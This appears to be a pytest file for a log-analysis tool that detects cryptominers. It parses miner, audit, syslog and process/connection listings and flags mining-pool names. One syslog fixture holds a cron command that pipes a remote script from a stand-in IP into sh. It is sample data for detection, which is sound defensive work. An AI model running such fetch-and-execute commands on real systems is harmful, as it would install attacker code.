"""Miners' own logs, audit logs, system logs and terminal listings: what each line becomes."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from kanaria.app.commands.main import cli
from kanaria.core.stream import Format, ReadContext
from kanaria.formats import registry
from kanaria.formats.auth_log import AuthLog
from kanaria.formats.host.auditd import AuditLog
from kanaria.formats.host.listings import Listing
from kanaria.formats.miners.log import MinerLog
from kanaria.formats.miners.phrases import read as read_phrase
from tests.reading_formats import BytesStream, broken_promises, read_all

Y2026 = ReadContext(year=2026)
XMRIG = [
    " * ABOUT        XMRig/6.21.0 gcc/12.2.0",
    " * POOL #1      pool.example.com:3333 algo auto",
    "[2026-01-10 09:00:02.120]  net      use pool pool.example.com:3333 TLSv1.3 203.0.113.50",
    "[2026-01-10 09:00:02.121]  net      new job from pool.example.com:3333 diff 1000 algo rx/0 height 7 (3 tx)",
    "[2026-01-10 09:00:31.500]  cpu      accepted (1/0) diff 1000 (54 ms)",
    "[2026-01-10 09:01:02.000]  miner    speed 10s/60s/15m 2311.2 2298.4 n/a H/s max 2350.0 H/s",
    "[2026-01-10 09:01:31.500]  cpu      rejected (1/1) diff 1000 \"Low difficulty share\" (57 ms)",
]  # fmt: skip


def _docker(line: str) -> str:
    return json.dumps({"log": line + "\n", "stream": "stdout", "time": "2026-01-10T09:00:09.5Z"})


WRAPPERS = {
    "bare": lambda line: line,
    "coloured": lambda line: line.replace("accepted", "\x1b[1;32maccepted\x1b[0m"),
    "docker-json": _docker,
    "docker-logs": lambda line: "2026-01-10T09:00:09.500000000Z " + line,
    "cri": lambda line: "2026-01-10T09:00:09.500000000Z stdout F " + line,
    "compose": lambda line: "worker-1  | " + line,
    "swarm": lambda line: "worker.1.abc@node1    | " + line,
    "kubectl": lambda line: "[pod/worker-0/main] " + line,
    "syslog": lambda line: "Jan 10 09:00:09 node1 kworker[4021]: " + line,
    "journald-short": lambda line: "2026-01-10T09:00:09+0000 node1 kworker[4021]: " + line,
    "journald-json": lambda line: json.dumps({
        "__REALTIME_TIMESTAMP": "1768035609500000", "_HOSTNAME": "node1", "_PID": "4021",
        "SYSLOG_IDENTIFIER": "kworker", "MESSAGE": line,
    }),
}  # fmt: skip


@pytest.mark.parametrize("name", WRAPPERS)
def test_a_miners_log_says_pool_rate_and_shares_wherever_it_is_kept(name: str) -> None:
    data = "\n".join(WRAPPERS[name](line) for line in XMRIG).encode() + b"\n"
    known = registry.detect(BytesStream(data))
    assert known is not None
    (row,) = read_all(known, data, context=Y2026).rows_of("miner")
    assert (row["program"], row["version"], row["pool"], row["dst_port"]) == (
        "XMRig",
        "6.21.0",
        "pool.example.com",
        3333,
    )
    assert (row["accepted"], row["rejected"], row["jobs"], row["hash_rate"]) == (1, 1, 1, 2298.4)
    assert (row["algorithm"], row["remote"], row["lines"]) == ("rx/0", "203.0.113.50", 7)
    assert (
        row["since"] is not None and row["device"] == "node1" if name in ("syslog", "swarm", "journald-json") else True
    )


@pytest.mark.parametrize(
    ("program", "lines", "expected"),
    [
        ("T-Rex", ["20260110 09:00:01 T-Rex NVIDIA GPU miner v0.26.8  -  [CUDA v11.80]",
                   "20260110 09:00:02 Mining at pool.example.com:2020, diff: 4.29 G",
                   "20260110 09:00:09 [ OK ] 25/26 - 92.61MH/s, 63ms ... GPU #0"],
         {"version": "0.26.8", "pool": "pool.example.com", "accepted": 25, "rejected": 1, "hash_rate": 92.61e6}),
        ("TeamRedMiner", ["[2026-01-10 09:00:01] Team Red Miner version 0.10.21",
                          "[2026-01-10 09:00:02] Pool pool.example.com share accepted. (GPU0) (a:226 r:1) (120 ms)",
                          "[2026-01-10 09:00:03] Mining kawpow with 1 GPU workers",
                          "[2026-01-10 09:00:04] GPU 0 [79C, fan 53%]       kawpow: 26.23Mh/s, avg 25.69Mh/s, pool 25.01Mh/s a:226 r:1 hw:0"],
         {"pool": "pool.example.com", "accepted": 226, "rejected": 1, "algorithm": "kawpow", "hash_rate": 26.23e6}),
        ("lolMiner", ["lolMiner 1.88", "Connected to pool.example.com:1010  (TLS disabled)",
                      "GPU 0: Share accepted (45 ms)", "GPU 0: Share accepted (46 ms)",
                      "Average speed (30s): 60.12 Mh/s"],
         {"version": "1.88", "pool": "pool.example.com", "accepted": 2, "hash_rate": 60.12e6}),
        ("SRBMiner-MULTI", ["[2026-01-10 09:00:01] SRBMiner-MULTI 2.4.4", "Algorithm: randomx",
                            "[2026-01-10 09:00:02] Connected to pool.example.com:3333 [0] [randomx]",
                            "[2026-01-10 09:00:03] #0 result accepted for algorithm randomx [64ms]"],
         {"version": "2.4.4", "pool": "pool.example.com", "accepted": 1, "algorithm": "randomx"}),
        ("cgminer", [" [2026-01-10 09:00:01] Started cgminer 4.11.1", " [2026-01-10 09:00:02] Accepted 1a2b3c4d Diff 8/1 BMM 0 pool 0",
                     " [2026-01-10 09:00:02] Rejected 1a2b3c4e Diff 8/1 BMM 0 pool 0",
                     " (5s):13.50T (avg):13.40Th/s | A:12 R:1 HW:3 WU:1"],
         {"version": "4.11.1", "accepted": 12, "rejected": 1, "hash_rate": 13.40e12}),
        ("bfgminer", ["Started bfgminer 5.5.0", "Pool 0 stratum+tcp://pool.example.com:3333 alive"], {"version": "5.5.0"}),
        ("xmrig-proxy", [" * ABOUT        xmrig-proxy/6.21.0 gcc/12", " * POOL #1      pool.example.com:443 coin XMR",
                         "[2026-01-10 09:00:02.1]  proxy    12.34 kH/s, shares: 10/1 +2, upstreams: 1, miners: 3 (max 3) +1/-0"],
         {"pool": "pool.example.com", "coin": "XMR", "accepted": 10, "rejected": 1, "hash_rate": 12.34e3}),
        ("cpuminer", ["[2026-01-10 09:00:01] 4 miner threads started, using 'yescrypt' algorithm.",
                      "[2026-01-10 09:00:09] accepted: 3/4 (75.00%), 1.25 khash/s (yay!!!)"],
         {"algorithm": "yescrypt", "accepted": 3, "rejected": 1, "hash_rate": 1.25e3}),
        ("PhoenixMiner", ["Phoenix Miner 6.2c", "Eth: Share accepted in 45 ms.", "Eth speed: 61.230 MH/s, shares: 12/0/0, time: 0:05"],
         {"accepted": 12, "hash_rate": 61.23e6}),
    ],
)  # fmt: skip
def test_other_miners_logs(program: str, lines: list[str], expected: dict[str, Any]) -> None:
    data = "\n".join(lines).encode() + b"\n"
    assert isinstance(registry.detect(BytesStream(data)), MinerLog)
    (row,) = read_all(MinerLog(), data, context=Y2026).rows_of("miner")
    assert row["program"] == program
    assert {name: row.get(name) for name in expected} == pytest.approx(expected)


@pytest.mark.parametrize(
    "message",
    [
        "Accepted password for root from 198.51.100.7 port 22 ssh2",
        "connection pool example.org:5432 accepted",
        "Server: http://example.org:8080",
        "speed 100 MB/s",
        "share accepted by the board",
        "Connected to db.example.org:5432",
        "new job from queue example",
        "GET / HTTP/1.1\" 200 12 \"-\" \"XMRig/6.21.0\"",
        "disk throughput 12.5 MB/s accepted: 3/4",
    ],
)  # fmt: skip
def test_ordinary_lines_are_no_miners(message: str) -> None:
    said = read_phrase(message)
    assert said is None or not said.sure


def test_a_line_that_others_write_too_makes_no_run() -> None:
    found = read_all(MinerLog(), b"Connected to db.example.org:5432\nAlgorithm: sha256\n", context=Y2026)
    assert "miner" not in found.tables


def test_two_miners_in_one_log_are_two_runs() -> None:
    lines = [
        f"Jan 10 09:00:0{n} node{n} a[{n}]: [2026-01-10 09:00:31]  cpu  accepted ({n}/0) diff 9 (5 ms)" for n in (1, 2)
    ]
    rows = read_all(AuthLog(), "\n".join(lines).encode(), context=Y2026).rows_of("miner")
    assert [(row["device"], row["accepted"], row["pid"]) for row in rows] == [("node1", 1, 1), ("node2", 2, 2)]


def test_jobs_services_and_kills_of_a_system_log() -> None:
    lines = [
        "Jan 10 09:00:01 srv CRON[77]: (root) CMD (curl -fsSL http://203.0.113.9/x.sh | sh)",
        "Jan 10 09:00:02 srv systemd[1]: Started moneroocean_miner.service - Monero.",
        "Jan 10 09:00:03 srv kernel: [1.5] Out of memory: Killed process 4021 (xmrig) total-vm:1kB",
        "Jan 10 09:00:04 srv sudo:  alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
    ]
    rows = read_all(AuthLog(), "\n".join(lines).encode(), context=Y2026).rows_of("process")
    assert [(row["kind"], row["process"], row.get("user")) for row in rows] == [
        ("job", "cron", "root"), ("service", "moneroocean_miner.service - Monero", None), ("running", "xmrig", None),
        ("start", "/usr/bin/id", "root"),
    ]  # fmt: skip
    assert rows[0]["command"] == "curl -fsSL http://203.0.113.9/x.sh | sh" and rows[2]["pid"] == 4021


def test_sysmon_for_linux_in_a_syslog() -> None:
    event = ("<Event><System><Provider Name=\"Linux-Sysmon\"/><EventID>1</EventID><Channel>Linux-Sysmon/Operational</Channel>"
             "<Computer>srv</Computer><TimeCreated SystemTime=\"2026-01-10T09:00:00Z\"/></System><EventData>"
             "<Data Name=\"Image\">/tmp/a</Data><Data Name=\"CommandLine\">/tmp/a -o x</Data><Data Name=\"User\">www-data</Data>"
             "<Data Name=\"ParentImage\">/bin/sh</Data></EventData></Event>")  # fmt: skip
    data = f"Jan 10 09:00:01 srv sysmon: {event}\n".encode()
    (bare,) = read_all(registry.detect(BytesStream(data)) or AuthLog(), data, context=Y2026).rows_of("process")
    (row,) = read_all(AuthLog(), data, context=Y2026).rows_of("process")
    assert (bare["process"], bare["platform"]) == (row["process"], row["platform"])
    assert (row["process"], row["command"], row["user"], row["parent"], row["platform"], row["line"]) == (
        "/tmp/a", "/tmp/a -o x", "www-data", "/bin/sh", "linux", 1)  # fmt: skip


AUDIT = [
    'node=srv type=SYSCALL msg=audit(1768035600.206:9): arch=c000003e syscall=59 success=yes exit=0 ppid=4000 pid=4021 auid=1001 uid=33 comm="a" exe="/tmp/a"',
    'node=srv type=EXECVE msg=audit(1768035600.206:9): argc=3 a0="/tmp/a" a1=2D6F a2="pool.example.com:3333"',
    'node=srv type=CWD msg=audit(1768035600.206:9): cwd="/tmp"',
    "node=srv type=PROCTITLE msg=audit(1768035600.206:9): proctitle=2F746D702F61",
]


def _programs(lines: list[str], known: Format | None = None) -> list[dict[str, object]]:
    return read_all(known or AuditLog(), "\n".join(lines).encode(), context=Y2026).rows_of("process")


def test_an_audit_event_is_one_program() -> None:
    assert isinstance(registry.detect(BytesStream("\n".join(AUDIT).encode())), AuditLog)
    (row,) = _programs(AUDIT)
    assert (row["process"], row["command"], row["directory"]) == ("/tmp/a", "/tmp/a -o pool.example.com:3333", "/tmp")
    assert (row["user"], row["parent_user"], row["pid"], row["parent_pid"], row["device"]) == (
        "uid 33",
        "uid 1001",
        4021,
        4000,
        "srv",
    )


def test_records_of_two_events_mixed_and_without_their_end() -> None:
    other = [line.replace(":9)", ":10)").replace("/tmp/a", "/tmp/b") for line in AUDIT[:2]]
    rows = _programs([AUDIT[0], other[0], AUDIT[1], other[1]])
    assert [row["process"] for row in rows] == ["/tmp/a", "/tmp/b"]


def test_arguments_in_parts_and_names_of_accounts() -> None:
    lines = [
        'type=SYSCALL msg=audit(1768035600.206:9): syscall=59 pid=1 uid=0 exe=2F746D702F6120 key=(null)\x1dUID="root" AUID="unset"',
        'type=EXECVE msg=audit(1768035600.206:9): argc=2 a0="sh" a1_len=9 a1[0]=6375726C a1[1]=2078',
    ]
    (row,) = _programs(lines)
    assert (row["command"], row["user"], row["process"], row.get("parent_user")) == (
        "sh curl x",
        "root",
        "/tmp/a",
        None,
    )


def test_audit_records_in_a_kernel_log_and_as_ausearch_prints_them() -> None:
    kernel = [
        'Jan 10 09:00:00 srv kernel: audit: type=1300 audit(1768035600.206:9): syscall=59 pid=7 uid=0 exe="/tmp/a"',
        'Jan 10 09:00:00 srv kernel: audit: type=1309 audit(1768035600.206:9): argc=1 a0="/tmp/a"',
    ]
    (row,) = _programs(kernel, AuthLog())
    assert (row["process"], row["device"], row["pid"]) == ("/tmp/a", "srv", 7)
    interpreted = [
        "----",
        "type=EXECVE msg=audit(01/10/2026 09:00:00.206:9) : argc=2 a0=/tmp/a a1=beef",
        "type=SYSCALL msg=audit(01/10/2026 09:00:00.206:9) : syscall=execve pid=7 auid=alice uid=root exe=/tmp/a",
    ]
    (row,) = _programs(interpreted)
    assert (row["command"], row["user"], row["parent_user"]) == ("/tmp/a beef", "root", "alice")


def test_logons_of_the_audit_log() -> None:
    line = ("type=USER_LOGIN msg=audit(1768035600.2:4): pid=1 uid=0 auid=1001 ses=1 msg='op=login acct=\"root\" "
            "exe=\"/usr/sbin/sshd\" hostname=? addr=198.51.100.7 terminal=ssh res=failed'")  # fmt: skip
    (row,) = read_all(AuditLog(), line.encode()).rows_of("logon")
    assert (row["service"], row["src_ip"], row["user"], row["success"]) == ("ssh", "198.51.100.7", "root", False)


LISTINGS = {
    "ss": 'State Recv-Q Send-Q Local Address:Port Peer Address:Port Process\n'
          'ESTAB 0 0 192.0.2.7:50000 203.0.113.50:3333 users:(("a",pid=4021,fd=12))\n'
          'LISTEN 0 128 0.0.0.0:22 0.0.0.0:* users:(("sshd",pid=1,fd=3))\n',
    "netstat": "Active Internet connections (servers and established)\n"
               "Proto Recv-Q Send-Q Local Address Foreign Address State PID/Program name\n"
               "tcp 0 0 192.0.2.7:50000 203.0.113.50:3333 ESTABLISHED 4021/a\n",
    "netstat-windows": "Active Connections\n\n  Proto  Local Address  Foreign Address  State  PID\n"
                       "  TCP    192.0.2.7:50000  203.0.113.50:3333  ESTABLISHED  4021\n [a]\n",
    "lsof": "COMMAND PID USER FD TYPE DEVICE SIZE/OFF NODE NAME\n"
            "a 4021 root 12u IPv4 1 0t0 TCP 192.0.2.7:50000->203.0.113.50:3333 (ESTABLISHED)\n",
}  # fmt: skip


@pytest.mark.parametrize("name", LISTINGS)
def test_connections_of_listings_with_their_owner(name: str) -> None:
    data = LISTINGS[name].encode()
    assert isinstance(registry.detect(BytesStream(data)), Listing)
    found = read_all(Listing(), data)
    (flow,) = found.rows_of("connection")
    assert (flow["src_ip"], flow["src_port"], flow["dst_ip"], flow["dst_port"]) == (
        "192.0.2.7",
        50000,
        "203.0.113.50",
        3333,
    )
    assert (flow["process"], flow["state"], flow["transport"]) == ("a", "S1", "tcp")
    assert "a" in [row["process"] for row in found.rows_of("process")]


@pytest.mark.parametrize(
    ("text", "process", "command"),
    [
        ("USER PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\nwww 4021 99.0 1.0 1 1 ? Sl 09:00 1:00 /tmp/a -o x:1\n",
         "/tmp/a", "/tmp/a -o x:1"),
        ("UID PID PPID C STIME TTY TIME CMD\nwww 4021 1 99 09:00 ? 00:01:00 /tmp/a -o x:1\n", "/tmp/a", "/tmp/a -o x:1"),
        ("top - 09:00:00 up 1 day\n\n PID USER PR NI VIRT RES SHR S %CPU %MEM TIME+ COMMAND\n4021 www 20 0 1 1 1 R 99.0 1.0 1:00.00 a\n",
         "a", "a"),
        ("Image Name PID Session Name Session# Mem Usage\na.exe 4021 Console 1 10,000 K\n", "a.exe", None),
    ],
)  # fmt: skip
def test_programs_of_listings(text: str, process: str, command: str | None) -> None:
    assert isinstance(registry.detect(BytesStream(text.encode())), Listing)
    (row,) = read_all(Listing(), text.encode()).rows_of("process")
    assert (row["process"], row.get("command"), row["pid"], row["kind"]) == (process, command, 4021, "running")


@pytest.mark.parametrize("known", [MinerLog(), AuditLog(), Listing(), AuthLog()], ids=lambda one: one.name)
def test_any_bytes_are_rows_or_rejected(known: Format) -> None:
    sample = "\n".join([*XMRIG, *AUDIT, *LISTINGS["ss"].split("\n")]).encode()

    @settings(max_examples=25, deadline=None)
    @given(st.integers(0, len(sample)), st.binary(max_size=20))
    def check(place: int, noise: bytes) -> None:
        assert not broken_promises(known, sample[:place] + noise + sample[place:], Y2026)

    check()


@pytest.mark.parametrize(
    "line",
    [
        "Oct 12 03:14:07 ns1 resolverd[5]: looking up pool.supportxmr.com for 192.0.2.7:40000",
        "[1791774847] unbound[600:0] info: resolving pool.supportxmr.com. A IN",
        "2026-10-12 03:14:07 pool.supportxmr.com",
    ],
)
def test_a_pools_name_in_any_line_is_heard(tmp_path: Path, line: str) -> None:
    (tmp_path / "a.log").write_text(f"{line}\nnothing else\nnotpool-supportxmr.com.example\n")
    result = CliRunner().invoke(cli, ["analyze", str(tmp_path / "a.log"), "--format", "json"], standalone_mode=False)
    (incident,) = json.loads(result.stdout)["incidents"]
    assert [one["rule"] for one in incident["findings"]] == ["mining_pool_named_in_log"]
    assert "pool.supportxmr.com" in incident["findings"][0]["why"]["en"]


def test_a_blocklist_is_no_log(tmp_path: Path) -> None:
    names = ("0.0.0.0 {}", "127.0.0.1 {}", "||{}^", "address=/{}/", 'local-zone: "{}" static')
    (tmp_path / "a.list").write_text("".join(f"{line.format('pool.supportxmr.com')}\n" for line in names))
    result = CliRunner().invoke(cli, ["analyze", str(tmp_path / "a.list"), "--format", "json"], standalone_mode=False)
    assert "mining_pool_named_in_log" not in result.stdout


@pytest.mark.parametrize(
    "line",
    [
        "share accepted for user tanaka in 3 ms",
        "Share accepted connection from 192.0.2.7 (12 ms)",
        "Job 12 accepted: 3/4 (75%), 2.1 MB/s",
        "thread 0: 4104 rows, 14.41 krows/s",
        "New Block 1234 written",
        "GPU #0: 14.2 GB/s",
        "scrypt: cache.example.org:6379",
        "Accepted 200 OK",
    ],
)
def test_what_others_write_in_like_words_is_no_miners_line(line: str) -> None:
    said = read_phrase(line)
    assert said is None or not said.sure


@pytest.mark.parametrize(
    ("record", "heard"),
    [
        ({"QueryName": "pool.supportxmr.com", "SrcIP": "192.168.1.7", "QueryCategoryNames": ["Cryptomining"]}, True),
        ({"srcip": "192.168.1.7", "url": "https://pool.supportxmr.com:443/", "action": "block"}, True),
        ({"client": "203.0.113.7", "id": 1, "said": "see pool.supportxmr.com for rates"}, False),  # somebody's words
    ],
)
def test_a_pool_that_is_a_member_of_unknown_json_is_heard(
    record: dict[str, object], heard: bool, tmp_path: Path
) -> None:
    (tmp_path / "a.json").write_text(json.dumps(record) + "\n")
    command = ["analyze", "--format", "json", str(tmp_path / "a.json")]
    result = CliRunner().invoke(cli, command, standalone_mode=False)
    rules = [f["rule"] for one in json.loads(result.stdout or '{"incidents":[]}')["incidents"] for f in one["findings"]]
    assert ("mining_pool_named_in_log" in rules) is heard


def test_what_people_write_around_a_miners_log_is_unread() -> None:
    lines = [
        *XMRIG,
        "I found this on my server last night and I do not know what it is doing there.",
        "なぜこのログが私のサーバにあるのでしょうか。",
    ]
    data = ("\n".join(lines) + "\n").encode()
    found = read_all(MinerLog(), data, context=Y2026)
    assert (found.rows, sum(batch.unread for batch in found.batches)) == (len(lines), 2)
